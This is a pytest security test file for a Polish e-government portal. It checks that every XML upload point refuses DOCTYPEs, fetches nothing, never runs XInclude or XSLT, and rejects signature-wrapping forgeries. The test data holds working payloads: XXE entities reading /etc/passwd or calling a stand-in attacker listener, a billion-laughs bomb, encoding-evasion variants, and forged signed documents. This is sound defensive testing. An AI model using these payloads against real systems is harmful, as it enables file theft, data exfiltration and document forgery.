"""XML from outside, at every door that takes it: the qualified-signature upload, the receipt check (page
and API), the ePUAP WS-Pull endpoint and the clerk's signed letter. Any DOCTYPE is refused before parsing,
nothing is fetched (an HTTP listener counts every request), XInclude and XSLT never run, and a signature
cannot be wrapped around content it does not cover. Each refusal says why, and nothing is stored.

(The case-events webhook and the EZD RP answers are JSON; the TpSigning5 client parses SOAP with zeep,
DTDs forbidden — the last test here.)
"""

from __future__ import annotations

import copy
import io
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from flask import Flask
from lxml import etree

from portal import xmlsafe
from sandbox import qualified
from tests.helpers import JAN, csrf_token
from tests.security.conftest import World, table_counts

DS = "http://www.w3.org/2000/09/xmldsig#"
WNIO = "http://crd.gov.pl/wzor/2013/12/12/1410/"
PASSWD = "root:x:0:0"


class Listener:
    """An HTTP server an attacker would own: every request it gets is recorded. GET answers an entity
    declaration (what an XXE would pull in); POST answers `soap` (a hostile SOAP service)."""

    def __init__(self, soap: bytes = b"") -> None:
        self.requests: list[str] = []
        heard = self.requests

        class Handler(BaseHTTPRequestHandler):
            def _answer(self, body: bytes, content_type: str) -> None:
                self.send_response(200)
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self) -> None:  # noqa: N802 - the standard library's name
                heard.append(self.path)
                self._answer(b'<!ENTITY leak "LEAKED">', "application/xml-dtd")

            def do_POST(self) -> None:  # noqa: N802
                self.rfile.read(int(self.headers.get("Content-Length", 0)))
                self._answer(soap, "text/xml; charset=utf-8")

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    heard = Listener()
    yield heard
    heard.close()


def _laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return f'<?xml version="1.0"?><!DOCTYPE d [{"".join(entities)}]><d>&lol9;</d>'.encode()


def attacks(url: str) -> dict[str, bytes]:
    """Each refused because it declares a DOCTYPE (or is not UTF-8), before any parsing."""
    doc = f'<wnio:Dokument xmlns:wnio="{WNIO}"><wnio:TrescDokumentu>&x;</wnio:TrescDokumentu></wnio:Dokument>'
    return {
        "xxe-file": f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>{doc}'.encode(),
        "xxe-http": f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "{url}/xxe">]>{doc}'.encode(),
        "parameter-entity": f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "{url}/param"> %p;]>'
                            f'<d>&leak;</d>'.encode(),
        "billion-laughs": _laughs(),
        "external-dtd": f'<?xml version="1.0"?><!DOCTYPE d SYSTEM "{url}/external.dtd"><d/>'.encode(),
        "xxe-in-utf-16": f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x SYSTEM '
                         f'"{url}/utf16">]>{doc}'.encode("utf-16"),
        # no byte-order mark: the byte search for "<!DOCTYPE" misses it, the check after parsing does not
        "xxe-in-utf-16-without-bom": f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x SYSTEM '
                                     f'"{url}/utf16le">]>{doc}'.encode("utf-16-le"),
        "xxe-in-latin-2": f'<?xml version="1.0" encoding="ISO-8859-2"?><!DOCTYPE d [<!ENTITY x SYSTEM '
                          f'"{url}/latin2">]>{doc}'.encode("iso-8859-2"),
    }


def xinclude(url: str) -> bytes:
    return (f'<?xml version="1.0"?><wnio:Dokument xmlns:wnio="{WNIO}" xmlns:xi="http://www.w3.org/2001/XInclude">'
            f'<xi:include href="file:///etc/passwd" parse="text"/><xi:include href="{url}/xinclude"/>'
            f'</wnio:Dokument>').encode()


# --- the doors --------------------------------------------------------------------------------------------


def _multipart(client, path: str, fields: dict, token_page: str | None):  # noqa: ANN001, ANN202
    data = dict(fields)
    if token_page:
        data["csrf_token"] = csrf_token(client, token_page)
    return client.post(path, data=data, content_type="multipart/form-data")


def doors(world: World) -> dict[str, Callable[[bytes], tuple[int, str]]]:
    """Each door takes the bytes and answers (status, what the sender reads)."""
    resident, anonymous, head = world.clients["resident_a"], world.clients["anonymous"], world.clients["clerk_own_unit"]

    assert resident.get(f"/wnioski/{world.draft_id}/podpis/dokument.xml").status_code == 200  # what is to be signed

    def qualified_upload(content: bytes) -> tuple[int, str]:
        answer = _multipart(resident, f"/wnioski/{world.draft_id}/podpis/kwalifikowany",
                            {"podpisany": (io.BytesIO(content), "podpisany.xml")}, f"/wnioski/{world.draft_id}/podpis")
        return answer.status_code, answer.get_data(as_text=True)

    def receipt_page(content: bytes) -> tuple[int, str]:
        answer = _multipart(anonymous, "/weryfikacja", {"upo": (io.BytesIO(content), "upo.xml")}, "/weryfikacja")
        return answer.status_code, answer.get_data(as_text=True)

    def receipt_api(content: bytes) -> tuple[int, str]:
        answer = _multipart(anonymous, "/api/upo/weryfikacja", {"upo": (io.BytesIO(content), "upo.xml")}, None)
        assert answer.get_json()["valid"] is False
        return answer.status_code, answer.get_data(as_text=True)

    def epuap_pull(content: bytes) -> tuple[int, str]:
        answer = anonymous.post("/epuap/ws/pull", data=content, content_type="text/xml; charset=utf-8")
        return answer.status_code, answer.get_data(as_text=True)

    def clerk_letter(content: bytes) -> tuple[int, str]:
        answer = _multipart(head, f"/urzad/sprawy/{world.case_id}/pismo",
                            {"letter-kind": "answer", "letter-title": "Odpowiedź",
                             "letter-file": (io.BytesIO(content), "odpowiedz.xml")}, f"/urzad/sprawy/{world.case_id}")
        return answer.status_code, answer.get_data(as_text=True)

    return {"qualified signature": qualified_upload, "receipt check page": receipt_page,
            "receipt check API": receipt_api, "ePUAP WS-Pull": epuap_pull, "clerk's signed letter": clerk_letter}


# What each door says about a DOCTYPE / a file that is not UTF-8.
SAYS_DOCTYPE = {
    "qualified signature": ("Dokument zawiera deklarację DOCTYPE, której nie przyjmujemy.",
                            "Dokument musi być zapisany w UTF-8."),
    "receipt check page": ("Dokument zawiera deklarację DOCTYPE, której nie przyjmujemy.",
                           "Dokument musi być zapisany w UTF-8."),
    "receipt check API": ("The document contains a DOCTYPE declaration", "The document must be encoded in UTF-8."),
    "ePUAP WS-Pull": ("documents with a DOCTYPE",
                      "the document must be encoded in UTF-8"),
    "clerk's signed letter": ("Dokument zawiera deklarację DOCTYPE, której nie przyjmujemy.",
                              "Dokument musi być zapisany w UTF-8."),
}


def _refused_everywhere(app: Flask, world: World, content: bytes, said: Callable[[str], str | tuple[str, ...]],
                        listener: Listener) -> None:
    before = table_counts(app)
    for door, send in doors(world).items():
        status, text = send(content)
        assert status >= 400 or door.startswith("receipt check"), (door, status)
        expected = said(door)
        assert any(e in text for e in ((expected,) if isinstance(expected, str) else expected)), (door, text[:3000])
        assert PASSWD not in text and "LEAKED" not in text and "lollollol" not in text, door
    after = table_counts(app)
    # Refusals leave an audit entry (the WS-Pull endpoint audits unauthenticated calls); nothing else is stored.
    assert {t for t in after if after[t] != before[t]} - {"audit_entry"} == set()
    assert listener.requests == []


@pytest.mark.parametrize("attack", list(attacks("http://listener")))
def test_a_doctype_is_refused_at_every_door_and_nothing_is_fetched(app: Flask, world: World, listener: Listener,
                                                                   attack: str) -> None:
    content = attacks(listener.url)[attack]
    with pytest.raises(xmlsafe.UnsafeXml) as refused:
        xmlsafe.parse(content)
    assert refused.value.code in {"doctype", "encoding"}
    index = 1 if refused.value.code == "encoding" else 0
    _refused_everywhere(app, world, content, lambda door: SAYS_DOCTYPE[door][index], listener)


def test_xinclude_is_never_run(app: Flask, world: World, listener: Listener) -> None:
    content = xinclude(listener.url)
    root = xmlsafe.parse(content)  # well-formed and without a DOCTYPE: parsed, and the includes stay elements
    assert [etree.QName(e).localname for e in root] == ["include", "include"]
    not_signed = {"qualified signature": "Dokument nie jest podpisany.", "clerk's signed letter":
                  "Dokument nie jest podpisany.", "receipt check page": "Dokument nie jest podpisany.",
                  "receipt check API": "The document is not signed.", "ePUAP WS-Pull": "Fault"}
    _refused_everywhere(app, world, content, not_signed.__getitem__, listener)


# --- the signature itself ---------------------------------------------------------------------------------


def signed_by_jan(client, pki: Path, draft_id: str) -> bytes:  # noqa: ANN001
    document = client.get(f"/wnioski/{draft_id}/podpis/dokument.xml").data
    return qualified.sign(document, (pki / "residents" / f"{JAN}.pem").read_bytes(),
                          (pki / "residents" / f"{JAN}.key").read_bytes())


def forged_copy(root: etree._Element) -> etree._Element:
    forged = copy.deepcopy(root)
    forged.remove(forged.find(f"{{{DS}}}Signature"))
    for node in forged.iter(f"{{{WNIO}}}*"):
        if node.text and "chodnika" in node.text:
            node.text = "Proszę o wypłatę odszkodowania w kwocie 1 000 000 zł."
    return forged


def xslt_transform(root: etree._Element, url: str) -> None:
    transforms = root.find(f"{{{DS}}}Signature/{{{DS}}}SignedInfo/{{{DS}}}Reference/{{{DS}}}Transforms")
    transform = etree.SubElement(transforms, f"{{{DS}}}Transform",
                                 Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116")
    transform.append(etree.fromstring(
        f'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        f'<xsl:copy-of select="document(\'{url}/xslt\')"/></xsl:template></xsl:stylesheet>'))


def external_reference(root: etree._Element, url: str) -> None:
    signed_info = root.find(f"{{{DS}}}Signature/{{{DS}}}SignedInfo")
    extra = copy.deepcopy(signed_info.find(f"{{{DS}}}Reference"))
    extra.set("URI", f"{url}/reference")
    signed_info.append(extra)


def document_in_an_object(root: etree._Element, url: str) -> None:
    """Signature wrapping: a second, unsigned wnio:Dokument where the references do not look."""
    holder = etree.SubElement(root.find(f"{{{DS}}}Signature"), f"{{{DS}}}Object")
    holder.append(forged_copy(root))


def signed_document_moved_aside(root: etree._Element, url: str) -> etree._Element:
    """Signature wrapping: a forged root with the signature, the signed original tucked inside it."""
    forged = forged_copy(root)
    forged.append(copy.deepcopy(root.find(f"{{{DS}}}Signature")))
    keep = etree.SubElement(forged.find(f"{{{DS}}}Signature"), f"{{{DS}}}Object")
    original = copy.deepcopy(root)
    original.remove(original.find(f"{{{DS}}}Signature"))
    keep.append(original)
    return forged


def signed_document_in_a_wrapper(root: etree._Element, url: str) -> etree._Element:
    wrapper = etree.Element(f"{{{WNIO}}}Dokument")
    wrapper.append(forged_copy(root))
    wrapper.append(copy.deepcopy(root))
    return wrapper


TAMPERING = {
    "xslt-transform": (xslt_transform, "Podpis zawiera odwołania, których nie przyjmujemy."),
    "external-reference": (external_reference, "Podpis zawiera odwołania, których nie przyjmujemy."),
    "second-document-in-an-object": (document_in_an_object, "Plik zawiera treść, której podpis nie obejmuje."),
    "signed-document-moved-aside": (signed_document_moved_aside, "Plik zawiera treść, której podpis nie obejmuje."),
    "signed-document-in-a-wrapper": (signed_document_in_a_wrapper,
                                     "Podpis nie znajduje się w elemencie głównym dokumentu."),
}


@pytest.mark.parametrize("tampering", list(TAMPERING))
def test_a_tampered_signature_is_refused_before_anything_runs(app: Flask, world: World, pki: Path,
                                                              listener: Listener, tampering: str) -> None:
    client = world.clients["resident_a"]
    root = etree.fromstring(signed_by_jan(client, pki, world.draft_id))
    change, message = TAMPERING[tampering]
    changed = change(root, listener.url)
    root = root if changed is None else changed
    before = table_counts(app)
    status, text = doors(world)["qualified signature"](etree.tostring(root))
    assert status == 422 and message in text, text
    assert "wypłatę odszkodowania" not in text
    assert listener.requests == []
    after = table_counts(app)
    assert {t for t in after if after[t] != before[t]} <= {"audit_entry", "draft"}  # nothing filed


def test_the_untampered_signature_is_filed(app: Flask, world: World, pki: Path) -> None:
    """The control for the tests above: the same file, untouched, is accepted."""
    client = world.clients["resident_a"]
    status, _ = doors(world)["qualified signature"](signed_by_jan(client, pki, world.draft_id))
    assert status == 302


def test_the_signing_service_client_refuses_a_doctype_in_its_answer(listener: Listener, pki: Path) -> None:
    """TpSigning5 is reached over TLS, but its answers are parsed as untrusted all the same."""
    from portal.signing.tpsigning import SigningServiceError, TpSigningClient

    hostile = Listener(soap=(
        f'<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM "{listener.url}/soap">]>'
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>&x;'
        '</soapenv:Body></soapenv:Envelope>').encode())
    try:
        client = TpSigningClient(hostile.url, str(pki / "office-system.key"), str(pki / "office-system.pem"))
        with pytest.raises(SigningServiceError, match="DTDForbidden"):
            client.signed_document("https://pz.gov.pl/task/1")
    finally:
        hostile.close()
    assert listener.requests == []
